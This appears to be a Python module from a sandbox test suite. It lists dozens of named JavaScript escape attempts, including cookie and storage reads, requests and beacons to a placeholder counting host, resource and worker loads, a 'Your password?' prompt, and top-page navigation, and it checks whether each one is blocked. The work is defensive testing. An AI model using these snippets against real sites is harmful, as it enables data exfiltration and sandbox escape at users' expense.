"""What code tries that wants out of the sandbox, each attempt under its name; the same code for app, player and HTML.

HIT and WS are addresses of another host, which counts who comes for this attempt; SILENT is one that counts
connections, UDP takes packets, NAME is a name that somebody would have to look up. Without these an attempt has got
through when it gets something rather than an error.
"""

from __future__ import annotations

import json
import re
from typing import Any, Final

from .outsider import Outsider

STORAGE: Final = {
    "cookie": "document.cookie || refuse()",
    "cookie store": "cookieStore.getAll().then(([first]) => first?.name ?? refuse())",
    "localStorage": "Storage.prototype.getItem.call(localStorage, 'planted') ?? refuse()",
    "sessionStorage": "Storage.prototype.getItem.call(sessionStorage, 'planted') ?? refuse()",
    "IndexedDB": """new Promise((got, no) =>
        Object.assign(indexedDB.open('x'), { onsuccess: () => got('opened'), onerror: no }))""",
    "caches": "caches.keys().then(() => 'keys')",
    "file system": "navigator.storage.getDirectory().then(() => 'directory')",
    "BroadcastChannel": "new BroadcastChannel('x').name && origin !== 'null' ? 'channel' : refuse()",
    "locks": "navigator.locks.query().then(() => 'locks')",
    "parent's page": "parent.document.title || refuse()",
    "top's page": "top.document.title || refuse()",
    "top's storage": "top.localStorage.getItem('planted') ?? refuse()",
    "top's variables": "top.planted ?? refuse()",
}
NETWORK: Final = {
    "fetch": "fetch('HIT')",
    "fetch without CORS": "fetch('HIT', { mode: 'no-cors', credentials: 'include' })",
    "fetch that outlives": "fetch('HIT', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })",
    "XMLHttpRequest": "((x) => (x.open('GET', 'HIT'), x.send(), after(x)))(new XMLHttpRequest())",
    "WebSocket": "after(new WebSocket('WS'))",
    "WebSocketStream": "new WebSocketStream('WS').opened",
    "EventSource": "after(new EventSource('HIT'))",
    "sendBeacon": "navigator.sendBeacon('HIT', 'x')",
    "WebTransport": "new WebTransport('https://UDP/').ready",
    "WebRTC": """(async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] });
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise(() => {}); })()""",
}
LOADING: Final = {
    "image": "after(Object.assign(new Image(), { src: 'HIT' }))",
    "image in the page": "after(made('img', { src: 'HIT' }))",
    "srcset": "after(made('img', { srcset: 'HIT 2x' }))",
    "style's url()": "(made('div', { textContent: 'x' }).style.background = 'url(HIT)', settled())",
    "style attribute's url()": "(write('<p style=\"background: url(HIT)\">x</p>'), settled())",
    "style sheet's url()": "(made('style', { textContent: 'html { background: url(HIT) }' }), settled())",
    "style sheet's import": "(made('style', { textContent: '@import \"HIT.css\"' }), settled())",
    "style sheet's font": """(made('style', { textContent: "@font-face { font-family: far; src: url(HIT) }" }),
        made('p', { textContent: 'x' }).style.setProperty('font-family', 'far'), settled())""",
    "constructed style sheet": """((sheet) => (sheet.replaceSync('body::after { content: url(HIT) }'),
        document.adoptedStyleSheets.push(sheet), settled()))(new CSSStyleSheet())""",
    "style sheet": "after(made('link', { rel: 'stylesheet', href: 'HIT.css' }))",
    "font": "new FontFace('x', 'url(HIT)').load()",
    "script": "after(made('script', { src: 'HIT' }))",
    "module": "after(made('script', { type: 'module', src: 'HIT' }))",
    "video": "after(made('video', { src: 'HIT', preload: 'auto' }))",
    "audio": "after(made('audio', { src: 'HIT', preload: 'auto' }))",
    "SVG image": """(write('<svg xmlns="http://www.w3.org/2000/svg"><image href="HIT" width="9" height="9"/></svg>'),
        settled())""",
    "frame": "after(made('iframe', { src: 'HIT' }))",
    "object": "after(made('object', { data: 'HIT' }))",
    "embed": "after(made('embed', { src: 'HIT' }))",
    "prefetch": "after(made('link', { rel: 'prefetch', href: 'HIT' }))",
    "preload": "after(made('link', { rel: 'preload', as: 'image', href: 'HIT' }))",
    "modulepreload": "after(made('link', { rel: 'modulepreload', href: 'HIT' }))",
    "preconnect": "(made('link', { rel: 'preconnect', href: 'http://SILENT/' }), settled())",
    "preconnect to a name": "(made('link', { rel: 'preconnect', href: 'http://NAME/' }), settled())",
    "DNS prefetch": "(made('link', { rel: 'dns-prefetch', href: '//NAME/' }), settled())",
    "name of an image": "after(Object.assign(new Image(), { src: 'http://NAME/' }))",
    "srcdoc page": "after(made('iframe', { srcdoc: '<img src=\"HIT\">' }))",
    "blob page": """after(made('iframe', { src: URL.createObjectURL(new Blob(['<img src="HIT">'],
        { type: 'text/html' })) }))""",
    "data page": "after(made('iframe', { src: 'data:text/html,<img src=\"HIT\">' }))",
    "script of a blob page": """after(made('iframe', { src: URL.createObjectURL(new Blob(
        ['<script>fetch("HIT", { mode: "no-cors" })</' + 'script>'], { type: 'text/html' })) }))""",
}
CODE: Final = {
    "import": "import('HIT')",
    "import of data": "import('data:text/javascript,export default 1').then((module) => module.default)",
    "import in eval": "(0, eval)(\"import('HIT')\")",
    "import in Function": "new Function(\"return import('HIT')\")()",
    "import in a blob": "import(blob(\"import 'HIT'\"))",
    "Worker's fetch": "after(new Worker(blob(\"fetch('HIT', { mode: 'no-cors' })\")))",
    "Worker's importScripts": "after(new Worker(blob(\"importScripts('HITplain.js')\")))",
    "Worker of elsewhere": "after(new Worker(blob(\"import 'HIT'\"), { type: 'module' }))",
    "SharedWorker": "(new SharedWorker(blob(\"fetch('HIT', { mode: 'no-cors' })\")), settled())",
    "service worker": "navigator.serviceWorker.register('/plain.js').then(() => 'registered')",
}
ASKING: Final = {
    "window.open": "open('HIT')?.name ?? refuse()",
    "link to a new tab": "(made('a', { href: 'HIT', target: '_blank' }).click(), settled())",
    "form to a new tab": "(made('form', { action: 'HIT', target: '_blank' }).submit(), settled())",
    "form to a frame": """(made('iframe', { name: 'target' }),
        made('form', { action: 'HIT', target: 'target', method: 'post' }).submit(), settled())""",
    "dialogue": "confirm('Your password?') || refuse()",
    "clipboard, reading": "navigator.clipboard.readText().then(() => 'read')",
    "clipboard, writing": "navigator.clipboard.writeText('x').then(() => 'written')",
    "place": "new Promise((got, no) => navigator.geolocation.getCurrentPosition(() => got('here'), no))",
    "notification": """new Promise((got, no) =>
        Object.assign(new Notification('x'), { onshow: () => got('shown'), onerror: no }))""",
    "file to save": "(made('a', { href: 'data:,HIT', download: 'SAVED' }).click(), settled())",
}
EVERYTHING: Final = {**STORAGE, **NETWORK, **LOADING, **CODE, **ASKING}

# These lead away from where they are tried.
LEAVING: Final = {
    "top's address": "(top.location = 'HIT')",
    "top's address, replaced": "top.location.replace('HIT')",
    "parent's address": "(parent.location.href = 'HIT')",
    "open in the top": "open('HIT', '_top')?.name ?? refuse()",
    "link to the top": "(made('a', { href: 'HIT', target: '_top' }).click(), settled())",
    "form to the top": "(made('form', { action: 'HIT', target: '_top' }).submit(), settled())",
    "own address": "(location.href = 'HIT')",
    "own address, by name": "(location.href = 'http://NAME/')",
    "own form": "(made('form', { action: 'HIT' }).submit(), settled())",
    "refresh": "(made('meta', { httpEquiv: 'refresh', content: '0; url=HIT' }), settled())",
}

# An attempt that neither gets anything nor is told no within this time got nothing.
LATE_MS: Final = 2_000
# For what tells nobody whether it was done: so long it may take to be seen elsewhere.
SETTLED_MS: Final = 700

RUNNER: Final = """
const refuse = (why = "nothing came of it") => { throw new Error(why) };
const settled = () => new Promise((_, no) => setTimeout(no, SETTLED_MS, new Error("told nothing")));
const made = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
const write = (html) => document.body.insertAdjacentHTML("beforeend", html);
const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
const after = (it) => new Promise((got, no) => {
  it.addEventListener("error", () => no(new Error("error event")));
  for (const name of ["load", "open", "message", "loadeddata"]) it.addEventListener(name, () => settled().catch(no));
});
const tried = async (attempt) => {
  try { return `got ${String(await attempt()).slice(0, 100)}` }
  catch (error) { return `refused: ${error?.name} ${error?.message}` }
};
const all = async (attempts) => Object.fromEntries(await Promise.all(Object.entries(attempts).map(
  async ([name, attempt]) => [name, await Promise.race([
    tried(attempt), new Promise((late) => setTimeout(late, LATE_MS, "refused: no answer")) ])])));
""".replace("SETTLED_MS", str(SETTLED_MS)).replace("LATE_MS", str(LATE_MS))


class Side:
    """One place that attempts are made from: its own hosts elsewhere, and what came of each."""

    def __init__(self, other: Outsider, silent: Outsider) -> None:
        self.other = other
        self.silent = silent
        self.domain = f"side{silent.host.rpartition(':')[2]}.example"
        self.looked_up = ""  # all that the browser's network has done, once that can be read
        self.outcomes: dict[str, str] = {}
        self.saved: set[str] = set()  # names of files

    def code(self, attempts: dict[str, str]) -> str:
        """An async function's body that makes them all and returns their outcomes."""
        made = ",\n".join(
            f"{json.dumps(name)}: () => ({self.addressed(name, code)})" for name, code in attempts.items()
        )
        return f"{RUNNER}\nreturn all({{ {made} }});"

    def addressed(self, name: str, code: str) -> str:
        """The code with addresses of this side's own."""
        path = path_of(name)
        if "UDP" in code:
            code = code.replace("UDP", self.other.udp(name))
        return (
            code.replace("HIT", f"http://{self.other.host}{path}")
            .replace("'WS'", f"'ws://{self.other.host}{path}'")
            .replace("SILENT", self.silent.host)
            .replace("NAME", self.name_of(name))
            .replace("SAVED", f"{path[1:]}.txt")
        )

    def got_through(self, name: str, code: str) -> bool:
        """Whether this attempt has reached what it was for."""
        if "UDP" in code:
            return self.other.heard(name)
        if "NAME" in code:
            return self.name_of(name) in self.looked_up
        if "SILENT" in code:
            return self.silent.connections > 0
        if "SAVED" in code:
            return f"{path_of(name)[1:]}.txt" in self.saved
        if "HIT" in code or "'WS'" in code:
            path = path_of(name)
            return any(self.other.was_asked(path + end) for end in ("", ".css", "plain.js"))
        return self.outcomes.get(name, "").startswith("got ")

    def name_of(self, name: str) -> str:
        """A host's name of an attempt's own."""
        return f"{path_of(name)[1:]}.{self.domain}"

    def told(self, name: str) -> str:
        """What came of an attempt, for a failing test's message."""
        return f"{name}: {self.outcomes.get(name)!r}; seen elsewhere: {self.other.hits}"


def path_of(name: str) -> str:
    return "/" + re.sub(r"\W+", "-", name).strip("-").lower()


def planted(inner: str = "/inner") -> dict[str, str]:
    """A site without a sandbox: a page with something to steal, and in it a frame of the same origin."""
    outer = f"""<!doctype html><title>planted title</title><script>
        localStorage.setItem('planted', 'x'); sessionStorage.setItem('planted', 'x'); var planted = 'x';
        </script><iframe name="inner" src="{inner}" style="width: 600px; height: 400px"></iframe>"""
    return {"/outer": outer, inner: "<!doctype html><title>inner</title><body>"}


Found = dict[str, Any]
